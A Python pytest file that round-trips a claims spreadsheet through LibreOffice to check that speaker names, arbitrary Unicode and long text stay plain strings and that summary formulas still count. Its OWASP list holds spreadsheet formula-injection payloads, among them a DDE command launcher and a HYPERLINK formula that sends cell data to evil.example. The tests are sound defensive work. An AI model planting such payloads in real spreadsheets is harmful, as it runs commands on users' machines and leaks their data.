"""LibreOffice opens the sheet, shows the same values, and what it saves is understood."""

import csv
import os
import random
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from claims import sheet
from claims.exporting import Findings
from claims.records import Speaker
from tests.sheet.libreoffice import SOFFICE, convert
from tests.sheet.tarnholt import CLAIMS, FINDINGS

if not SOFFICE and os.environ.get("CI"):  # there a missing LibreOffice is a fault of the set-up
    raise RuntimeError("LibreOffice is missing: run `make test-tools`")
pytestmark = pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not installed")

NAMES = [
    "=1+1",
    "＝1+1",
    "@SUM(1)",
    "-2+3",
    "001",
    "#N/A",
    "3-12",
    "'quoted",
    "TRUE",
    "“Peña”",
    "_x0041_",
    "نادية",
    "1e5",
]
OWASP = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1+1;=2", "  =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', "-2+3+cmd|' /C calc'!E1",
]  # fmt: skip


def any_texts() -> list[str]:
    """Text from all of Unicode, the same on each run."""
    chance = random.Random(6)
    letters = [c for c in map(chr, range(0x110000)) if not 0xD800 <= ord(c) <= 0xDFFF]
    return ["x" + "".join(chance.choices(letters, k=chance.randint(1, 30))) + "x" for _ in range(200)]


def test_it_shows_the_text_as_it_is(tmp_path: Path) -> None:
    claims = tuple(
        replace(CLAIMS[0], id=f"{n:012}", speaker=Speaker(t, "person")) for n, t in enumerate(NAMES)
    )
    sheet.write(Findings(claims), tmp_path / "names.xlsx")
    made = convert(
        tmp_path / "names.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false", tmp_path
    )
    with made.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["Speaker"] for row in rows] == NAMES
    assert {row["Published"] for row in rows} == {"2026-03-02"}


def test_any_text_the_known_attacks_and_long_quotations_come_through(tmp_path: Path) -> None:
    texts = [*OWASP, *any_texts(), "and then it rained " * 2_200, "水" * 40_000]
    claims = tuple(
        replace(CLAIMS[0], id=f"{n:012}", speaker=Speaker(t, "person")) for n, t in enumerate(texts)
    )
    sheet.write(Findings(claims), tmp_path / "any.xlsx")
    written = [
        row[0] for row in load_workbook(tmp_path / "any.xlsx")["Claims"].iter_rows(2, values_only=True)
    ]
    saved = load_workbook(convert(tmp_path / "any.xlsx", "xlsx", tmp_path), data_only=False)["Claims"]
    cells = [row[0] for row in saved.iter_rows(2)]
    assert {cell.data_type for cell in cells} == {"s"}
    shown = [cell.value for cell in cells]
    assert [t for t, s in zip(written, shown, strict=True) if t != s] == []


def test_formulas_of_the_summary_count_what_is_filled_in(tmp_path: Path) -> None:
    sheet.write(FINDINGS, tmp_path / "claims.xlsx")
    book = load_workbook(tmp_path / "claims.xlsx")
    page = book["Claims"]
    for row, truth in ((3, "false"), (4, "false"), (5, "true")):
        page.cell(row, [cell.value for cell in page[1]].index("Truth") + 1, truth)
    book.save(tmp_path / "filled.xlsx")
    saved = load_workbook(convert(tmp_path / "filled.xlsx", "xlsx", tmp_path), data_only=True)["Summary"]
    shown = {row[0]: row[1:3] for row in saved.iter_rows(values_only=True, max_col=3) if row[0]}
    assert shown["Truth decided"] == (4, 0.8)
    assert (shown["truth: false"][0], shown["truth: true"][0]) == (2, 1)


def test_what_it_saves_is_a_claim_sheet_still(tmp_path: Path) -> None:
    sheet.write(FINDINGS, tmp_path / "claims.xlsx")
    saved = convert(tmp_path / "claims.xlsx", "xlsx", tmp_path)
    before, after = (load_workbook(path)["Claims"] for path in (tmp_path / "claims.xlsx", saved))
    assert list(after.iter_rows(values_only=True, max_row=6)) == list(before.iter_rows(values_only=True))
    assert len(after.data_validations.dataValidation) == 3
    sheet.write(FINDINGS, saved)
    assert saved.read_bytes() == (tmp_path / "claims.xlsx").read_bytes()
